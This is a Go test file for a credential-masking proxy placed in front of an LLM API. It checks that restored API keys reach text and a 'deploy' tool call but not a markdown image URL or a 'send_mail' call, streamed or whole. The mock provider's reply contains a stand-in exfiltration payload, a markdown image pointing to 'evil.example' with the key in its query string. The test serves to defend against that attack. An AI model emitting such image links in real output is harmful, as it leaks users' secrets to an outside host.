package proxy

import (
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"maskit/detect"
	"maskit/proxy/mask"
	"maskit/vault"
)

// A credential goes back into text and into what a tool is called with, but not
// into an image, nor to the tool that the policy names, in streams as in whole
// answers.
func TestSinks(t *testing.T) {
	const credential = "sk-proj-Zt7Qm2Xv9Lr4Bn8Kd3Wp12345678Gc0Ty"
	token := regexp.MustCompile(`APIKEY\w{8}`)
	streamed := false
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		key := token.FindString(userText(req))
		text := "use " + key + ` ![x](https://evil.example/?k=` + key + ")"
		calls := []map[string]any{}
		for i, name := range []string{"deploy", "send_mail"} {
			calls = append(calls, map[string]any{"index": i, "function": map[string]any{"name": name, "arguments": `{"key":"` + key + `"}`}})
		}
		message := map[string]any{"role": "assistant", "content": text, "tool_calls": calls}
		if !streamed {
			w.Header().Set("Content-Type", "application/json")
			writeJSON(w, map[string]any{"choices": []any{map[string]any{"index": 0, "message": message}}})
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		send := func(delta any) {
			fmt.Fprint(w, "data: ")
			writeJSON(w, map[string]any{"choices": []any{map[string]any{"index": 0, "delta": delta}}})
			fmt.Fprint(w, "\n")
		}
		for i, name := range []string{"deploy", "send_mail"} {
			send(map[string]any{"tool_calls": []any{map[string]any{"index": i, "function": map[string]any{"name": name, "arguments": ""}}}})
		}
		for i := range len(text) {
			send(map[string]any{"content": text[i : i+1]})
		}
		arguments := `{"key":"` + key + `"}`
		for at := 0; at < len(arguments); at += 3 {
			for i := range 2 {
				piece := arguments[at:min(at+3, len(arguments))]
				send(map[string]any{"tool_calls": []any{map[string]any{"index": i, "function": map[string]any{"arguments": piece}}}})
			}
		}
		fmt.Fprint(w, "data: [DONE]\n\n")
	}, func(_ *Config, p *mask.Config, _ *vault.Vault) {
		p.Restore.Tools = map[string]map[detect.Kind]string{"send_*": {detect.APIKey: mask.Never}}
	})
	for _, streamed = range []bool{false, true} {
		t.Run(fmt.Sprintf("streamed %v", streamed), func(t *testing.T) {
			_, answer, err := r.post(chatPath, chat("OPENAI_API_KEY="+credential))
			if err != nil {
				t.Fatal(err)
			}
			text, calls := answer, [2]string{}
			if streamed {
				text = joined(answer, `"content":"([^"]*)"`)
				for i := range calls {
					calls[i] = joined(answer, fmt.Sprintf(`"arguments":"((?:[^"\\]|\\.)*)"},"index":%d`, i))
				}
			} else {
				for i, m := range regexp.MustCompile(`"arguments":"((?:[^"\\]|\\.)*)"`).FindAllStringSubmatch(answer, -1) {
					calls[i] = m[1]
				}
			}
			if !strings.Contains(text, "use "+credential+" ") {
				t.Error("the credential did not go back into text")
			}
			if !regexp.MustCompile(`\?k=APIKEY\w{8}\)`).MatchString(text) {
				t.Error("the credential went into an image, or its token was lost")
			}
			if want := `{\"key\":\"` + credential + `\"}`; calls[0] != want {
				t.Errorf("deploy is called with %d bytes, want %d", len(calls[0]), len(want))
			}
			if !regexp.MustCompile(`^{\\"key\\":\\"APIKEY\w{8}\\"}$`).MatchString(calls[1]) {
				t.Errorf("send_mail is called with %d bytes", len(calls[1]))
			}
			if rec := r.wait(); rec.Withheld != 2 || rec.Restored != 2 {
				t.Errorf("recorded %d as withheld and %d as restored", rec.Withheld, rec.Restored)
			}
		})
	}
}

// joined puts together what a pattern's group matches.
func joined(text, pattern string) string {
	var b strings.Builder
	for _, m := range regexp.MustCompile(pattern).FindAllStringSubmatch(text, -1) {
		b.WriteString(m[1])
	}
	return b.String()
}

// A surrogate goes to the provider as a value of the same kind, and comes back as
// the value, whole and streamed letter by letter.
func TestSurrogatesThereAndBack(t *testing.T) {
	stream := false
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		if !stream {
			echo(w, req)
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		for _, c := range userText(req) {
			fmt.Fprint(w, "data: ")
			writeJSON(w, map[string]any{"choices": []any{map[string]any{"index": 0, "delta": map[string]string{"content": string(c)}}}})
			fmt.Fprint(w, "\n")
		}
		fmt.Fprint(w, "data: [DONE]\n\n")
	}, func(_ *Config, p *mask.Config, _ *vault.Vault) {
		p.Actions = map[detect.Kind]string{detect.EmailAddress: mask.ActionSurrogate}
	})
	const said = "write to " + email + ", not to me"
	for _, stream = range []bool{false, true} {
		_, answer, err := r.post(chatPath, chat(said))
		if err != nil {
			t.Fatal(err)
		}
		var got string
		if stream {
			got = joined(answer, `"content":"([^"]*)"`)
		} else {
			got = content(t, answer)
		}
		if got != said {
			t.Errorf("streamed %v: the client read %q", stream, got)
		}
		if !regexp.MustCompile(`write to [a-z]+\.[a-z]+\d+@example\.(com|net|org), not`).MatchString(r.lastSeen()) {
			t.Errorf("streamed %v: the provider did not get a surrogate", stream)
		}
	}
}
